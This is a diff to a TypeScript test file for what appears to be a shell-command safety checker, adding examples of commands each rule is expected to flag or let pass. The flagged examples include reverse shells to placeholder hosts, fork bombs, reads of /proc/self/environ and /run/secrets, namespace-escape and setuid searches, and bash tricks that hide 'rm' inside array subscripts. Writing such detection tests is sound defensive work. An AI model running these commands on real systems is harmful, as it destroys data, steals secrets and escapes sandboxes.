@@ -5,6 +5,8 @@ import { allRules } from './rules/index.ts'
 const examples: Record<string, { found: string[]; left: string[] }> = {
   'delete-files': {
     found: [
+      '/lib64/ld-linux-x86-64.so.2 /bin/rm a',
+      "complete -C 'rm a' x",
       `perl -e 'exec "rm", "a"'`,
       'rm -rf /tmp/$X',
       'rm "/tmp/$X"',
@@ -86,8 +88,8 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
   'schedule-removed': { found: ['crontab -r', 'crontab a', 'atrm 1'], left: ['crontab -l'] },
   'kill-everything': { found: ['kill -9 -1', 'killall5'], left: ['kill -9 12', 'kill -1 12'] },
   'edits-files': {
-    found: ['patch -p1 < a.diff', 'ed a'],
-    left: ['patch --dry-run -p1 < a.diff', 'diff a b'],
+    found: ['rename -f s/a/b/ *.txt', 'patch -p1 < a.diff', 'ed a'],
+    left: ['rename s/a/b/ *.txt', 'rename -n s/a/b/ *', 'patch --dry-run -p1 < a.diff', 'diff a b'],
   },
   'package-unpublish': { found: ['npm publish', 'cargo yank --vers 1'], left: ['npm test', 'cargo build'] },
   'git-force-push': {
@@ -128,6 +130,7 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
   },
   'git-discard': {
     found: [
+      'git mv -f a b',
       'git checkout -- a',
       'git checkout .',
       'git checkout HEAD a',
@@ -135,26 +138,41 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
       'git restore --staged --worktree a',
       'git switch -f main',
     ],
-    left: ['git checkout main', 'git restore --staged a', 'git switch main', 'git checkout -b a origin/main'],
+    left: [
+      'git mv a b',
+      'git checkout main',
+      'git restore --staged a',
+      'git switch main',
+      'git checkout -b a origin/main',
+    ],
   },
   'git-stash-drop': { found: ['git stash drop', 'git stash clear'], left: ['git stash', 'git stash pop'] },
   'git-remove': { found: ['git rm a', 'git rm -r .'], left: ['git rm --cached a'] },
   'git-refs': {
     found: [
+      'git notes remove HEAD',
+      'git lfs prune',
       'git reflog expire --all',
       'git update-ref -d HEAD',
       'git gc --prune=now',
       'git worktree remove a',
       'git remote rm origin',
     ],
-    left: ['git reflog', 'git gc', 'git remote -v', 'git symbolic-ref HEAD'],
+    left: ['git notes show', 'git reflog', 'git gc', 'git remote -v', 'git symbolic-ref HEAD'],
   },
   'git-unknown-command': {
     found: ['git $X', 'git "$(cat a)" --force'],
     left: ['git log $X', 'git diff "$(cat a)"'],
   },
   'escape-namespaces': {
-    found: ['unshare -r sh', 'nsenter -t 1 -m', 'chroot /x', 'sudo nsenter -t 1'],
+    found: [
+      'su root',
+      'setpriv --reuid 0 sh',
+      'unshare -r sh',
+      'nsenter -t 1 -m',
+      'chroot /x',
+      'sudo nsenter -t 1',
+    ],
     left: ['echo unshare', 'man chroot'],
   },
   'escape-containers': {
@@ -169,8 +187,17 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
   'device-node': { found: ['mknod a c 1 5', 'mknod a b 8 0'], left: ['mknod a p', 'mkfifo a'] },
   'machine-power': { found: ['shutdown now', 'reboot'], left: ['uptime', 'echo reboot'] },
   'endless-data': {
-    found: ['yes > a', 'cat /dev/zero > a', 'dd if=/dev/zero of=a bs=1M', 'cp /dev/urandom a'],
+    found: [
+      'cat < /dev/zero > a',
+      'cat /dev/zero | gzip > a',
+      'yes > a',
+      'cat /dev/zero > a',
+      'dd if=/dev/zero of=a bs=1M',
+      'cp /dev/urandom a',
+    ],
     left: [
+      'cat /dev/urandom | tr -dc a-z | head -c 20',
+      'tr -dc a-z < /dev/urandom | head -c 20',
       'yes | head',
       'dd if=/dev/zero of=/tmp/a bs=1M count=5',
       'head -c 9 /dev/urandom',
@@ -195,6 +222,7 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
   },
   'send-by-socket': {
     found: [
+      'python3 -c \'import socket; socket.create_connection(("1.2.3.4", 80))\'',
       'socat TCP-LISTEN:80 EXEC:sh',
       'nc a.org 80 < a',
       'nc -e /bin/sh a 1',
@@ -224,6 +252,8 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
   },
   'dynamic-command': {
     found: [
+      'xargs env',
+      "printf '%s\\n' rm a | xargs -n2 nice",
       'xargs -I X X a',
       "xargs -I % sh -c '% a'",
       '$X a',
@@ -238,7 +268,7 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
       'sudo "$X"',
       'xargs -I{} sh -c {}',
     ],
-    left: ['a $X', 'a "$(b)"', 'X=$(a)'],
+    left: ['xargs env ls', 'xargs echo', 'a $X', 'a "$(b)"', 'X=$(a)'],
   },
   'dynamic-code': {
     found: [
@@ -269,6 +299,13 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
   },
   'hidden-run': {
     found: [
+      "declare 'a[$(rm b)]=1'",
+      "printf -v 'a[$(rm b)]' x",
+      "[[ -v 'a[$(rm b)]' ]]",
+      "test -v 'a[$(rm b)]'",
+      "x='a[$(rm b)]'; echo $((x))",
+      "X='$(rm a)'; echo ${X@P}",
+      'bind -x \'"x": rm a\'',
       "expect -c 'spawn rm a'",
       "gdb -ex 'shell ls'",
       "less '+!ls' a",
@@ -284,7 +321,18 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
       "let 'a[$(ls)]'",
       'make -f - <<E\na:\nE',
     ],
-    left: ['gdb ./a.out', 'less a', "awk '{ print $1 }' a", "sed 's/e/w/' a", 'hash -r', 'make -f a'],
+    left: [
+      "printf 'a[$(b)]'",
+      'declare -A a',
+      'echo ${X@Q}',
+      '[[ -v a ]]',
+      'gdb ./a.out',
+      'less a',
+      "awk '{ print $1 }' a",
+      "sed 's/e/w/' a",
+      'hash -r',
+      'make -f a',
+    ],
   },
   'code-deletes': {
     found: [
@@ -308,15 +356,20 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
   },
   'code-hides-code': {
     found: [
+      'python3 -c \'from os import *; remove("a")\'',
+      'python3 -c \'import os as o; o.remove("a")\'',
+      'node -e \'process.binding("fs")\'',
       "python3 -c 'import os; getattr(os, x)(y)'",
       "python3 -c 'exec(x)'",
       "node -e 'eval(x)'",
       'python3 -c \'__import__("os")\'',
     ],
-    left: ['python3 -c \'import re; re.compile("a")\''],
+    left: ["python3 -c 'import os.path as p'", 'python3 -c \'import re; re.compile("a")\''],
   },
   'overwrite-unknown': {
     found: [
+      'for f in *.txt; do mv x "$f"; done',
+      'cp a *.txt',
       'a > "$X"',
       'a > "$(b)"',
       'sed -i s/a/b/ *.txt',
@@ -334,6 +387,10 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
       'ln -s /work/x /tmp/l; a > /tmp/l',
     ],
     left: [
+      'for f in *.txt; do mv "$f" "old/$f"; done',
+      'for d in */; do cp x "$d"; done',
+      'tar czf a-$(date +%F).tgz b',
+      'a > "log-$(date +%H%M).txt"',
       'command -v cd; a > b',
       'ln -sf x l',
       'ln -s x l; a >> b',
@@ -348,6 +405,8 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
   },
   'fork-bomb': {
     found: [
+      "python3 -c 'import os\nwhile True: os.fork()'",
+      "perl -e 'fork while 1'",
       'f() { for i in 1 2; do f & done; }; f',
       ':(){ :|:& };:',
       'f() { f | f & }; f',
@@ -378,6 +437,9 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
   },
   'secret-path': {
     found: [
+      'cat /proc/1/fd/0',
+      'ls /proc/1/cwd',
+      'python3 -c \'open("/run/" + "secrets/x")\'',
       'cat /run/sec*/a',
       'cat /r??/secrets/a/b',
       'cat /proc/self/environ',
@@ -399,6 +461,8 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
       'cat /proc/1/root/etc/passwd',
     ],
     left: [
+      'ls -l /proc/self/fd',
+      'cat /proc/1/status',
       'cat /proc/cpuinfo',
       'grep /run/secrets a',
       'echo /proc/self/environ',
@@ -409,6 +473,7 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
   },
   'kernel-path': {
     found: [
+      'cat /sys/class/dmi/id/product_uuid',
       'echo a > /dev/sda',
       'cat /dev/mem',
       'dd if=a of=/dev/nvme0n1',
@@ -420,6 +485,124 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
       'echo a >> /proc/sys/kernel/core_pattern',
     ],
     left: ['cat /sys/class/net/lo/mtu', 'ls /dev', 'cat /dev/null', 'a > /dev/stderr'],
+  },
+  'rights-special': {
+    found: ['chmod u+s a', 'chmod 4755 a', 'chmod g+s a', 'chmod u=rwxs a', 'chmod 02755 a'],
+    left: ['chmod 755 a', 'chmod +x a.sh', 'chmod u=rw,go=r a', 'chmod 0644 a'],
+  },
+  'rights-locked': {
+    found: ['chmod 000 a', 'chmod a-rwx a', 'chmod 0 a', 'chmod a= b'],
+    left: ['chmod 600 a', 'chmod a-w a', 'chmod go= a'],
+  },
+  'link-outside': {
+    found: ['ln -s /etc/passwd a', 'ln -sf /proc/self a', 'ln -s /home/b /work/c'],
+    left: ['ln -s /work/a b', 'ln -s ../a b', 'ln a b', 'ln -s /usr/share/dict/words w'],
+  },
+  'program-renamed': {
+    found: ['cp /bin/rm x; ./x a', 'ln -s /usr/bin/rm ls; ./ls a', 'cp /bin/cat c'],
+    left: ['cp bin/rm x', 'ls /bin/rm', 'ln -s /usr/bin/python3 py'],
+  },
+  'large-fill': {
+    found: [
+      'dd if=/dev/zero of=a bs=1M count=400',
+      'head -c 1G /dev/zero > a',
+      'seq 1 999999999 > a',
+      'head --bytes=200M /dev/urandom | gzip > a',
+    ],
+    left: [
+      'dd if=/dev/zero of=a bs=1M count=10',
+      'head -c 1k /dev/urandom',
+      'seq 1 100 > a',
+      'seq 1 999999999 | head',
+      'head -c 1G a',
+    ],
+  },
+  'secret-environment': {
+    found: ['ps auxe', 'ps eww', 'ps axe'],
+    left: ['ps aux', 'ps -ef', 'ps -eo pid,etime', 'ps -e -o etime', 'ps axo time', 'ps -p 1 -o etime='],
+  },
+  'secret-search': {
+    found: [
+      'grep -r key /proc',
+      'find / -name environ',
+      'tar cf a /run',
+      'cp -r /proc a',
+      'rg x /run/',
+      "find /proc -path '*/environ'",
+    ],
+    left: ['grep -r key .', 'grep a /proc/cpuinfo', "find . -name 'env*'", 'tar cf a b', 'grep /proc a'],
+  },
+  'escape-search': {
+    found: [
+      'find / -perm -4000',
+      'find / -xdev -perm /6000 -type f',
+      'find / -type s',
+      'find / -writable -type d',
+      'getcap -r /',
+    ],
+    left: ['find . -perm 644', 'find . -type s', 'find /work -writable', 'find / -name a', 'getcap a'],
+  },
+  'send-by-git': {
+    found: ['git push https://a.org/x main', 'git push me@a.org:x', 'git -C a push ssh://a.org/x'],
+    left: [
+      'git push',
+      'git push origin main',
+      'git push ../a main',
+      'git push http://localhost/a',
+      'git clone https://a.org/x',
+    ],
+  },
+  'code-forks': {
+    found: [
+      "python3 -c 'import os; os.fork()'",
+      "perl -e 'fork() or print 1'",
+      'python3 <<E\nimport os\nfor i in range(9): os.fork()\nE',
+    ],
+    left: ['python3 -c \'print("fork")\'', 'node -e \'console.log("a fork in the road")\''],
+  },
+  'code-sockets': {
+    found: [
+      "python3 -c 'import socket; socket.socket(socket.AF_UNIX)'",
+      "python3 -c 'import socket; socket.socket(40, 1)'",
+      "python3 -c 'import socket as s; s.socket(s.AF_INET, s.SOCK_RAW, 1)'",
+    ],
+    left: [
+      "python3 -c 'import socket; socket.socket()'",
+      "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_STREAM)'",
+    ],
+  },
+  'startup-file': {
+    found: [
+      'echo a >> .bashrc',
+      'cp a .git/hooks/pre-commit',
+      'a > /work/.profile',
+      'python3 -c \'open("sitecustomize.py","w")\'',
+      'tee .zshrc < a',
+    ],
+    left: ['echo a >> ~/.bashrc', 'cat .bashrc', 'echo a >> notes.profile', 'cp .bashrc a'],
+  },
+  'endless-loop': {
+    found: [
+      'while true; do :; done',
+      'for ((;;)); do x=1; done',
+      'while :; do echo a >> b; done',
+      'until false; do cat a >> b; done',
+    ],
+    left: [
+      'while true; do sleep 1; done',
+      'while true; do read x || break; done',
+      'while read x; do :; done < a',
+      'for ((i=0;i<9;i++)); do :; done',
+    ],
+  },
+  'code-escapes': {
+    found: [
+      'python3 -c \'import os; os.setxattr("a", "security.capability", b"")\'',
+      "python3 -c 'import os; os.unshare(1)'",
+      "perl -e 'syscall(272, 1)'",
+      'python3 -c \'import os; os.chroot("a")\'',
+    ],
+    left: ['python3 -c \'import os; os.mkdir("a")\'', 'python3 -c \'print("chroot")\'', 'grep syscall a'],
   },
   'network-socket': {
     found: ['bash -i >& /dev/tcp/1.2.3.4/80 0>&1', 'exec 3<>/dev/tcp/a.org/80', 'cat a > /dev/udp/a/53'],
